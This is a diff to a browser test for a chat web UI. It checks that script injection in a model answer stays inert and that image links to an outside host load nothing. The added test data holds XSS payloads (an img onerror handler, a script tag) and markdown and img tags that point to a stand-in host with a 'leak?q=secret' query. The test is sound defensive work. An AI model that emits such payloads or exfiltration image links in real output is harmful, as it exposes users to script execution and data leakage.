@@ -309,14 +309,21 @@ describe.skipIf(!hasChromium)("web UI in the browser", () => {
     }
   });
 
-  it("renders script injection in a model answer inert", async () => {
+  it("renders script injection in a model answer inert, and loads nothing it names from elsewhere", async () => {
     model.options.words = [
       '<img src=x onerror="window.__pwned=1">',
       "<script>window.__pwned=2</script>",
-      " **bold** and $x^2$",
+      " **bold** and $x^2$ ",
+      "![chart](https://elsewhere.example/leak?q=secret) ",
+      '<img src="https://elsewhere.example/pixel.png">',
     ];
+    const { page } = alice;
+    const outbound: string[] = [];
+    const watch = (request: { url(): string }) => {
+      if (request.url().includes("elsewhere.example")) outbound.push(request.url());
+    };
+    page.on("request", watch);
     try {
-      const { page } = alice;
       await page.getByRole("link", { name: "Chat" }).click();
       await page.getByRole("button", { name: "+ New chat" }).click();
       await page.getByLabel(/Send a message/).fill("inject");
@@ -328,7 +335,15 @@ describe.skipIf(!hasChromium)("web UI in the browser", () => {
       expect(await answer.locator("script").count()).toBe(0);
       expect(await answer.locator("[onerror]").count()).toBe(0);
       expect(await answer.locator(".katex").count()).toBe(1);
+      // A Markdown image from elsewhere is a link to follow; an <img> from elsewhere loads nothing.
+      expect(await answer.getByRole("link", { name: "chart" }).getAttribute("href")).toBe(
+        "https://elsewhere.example/leak?q=secret",
+      );
+      expect(await answer.locator('img[src*="elsewhere.example"]').count()).toBe(0);
+      await page.waitForTimeout(300);
+      expect(outbound).toEqual([]);
     } finally {
+      page.off("request", watch);
       model.options.words = undefined;
     }
   });
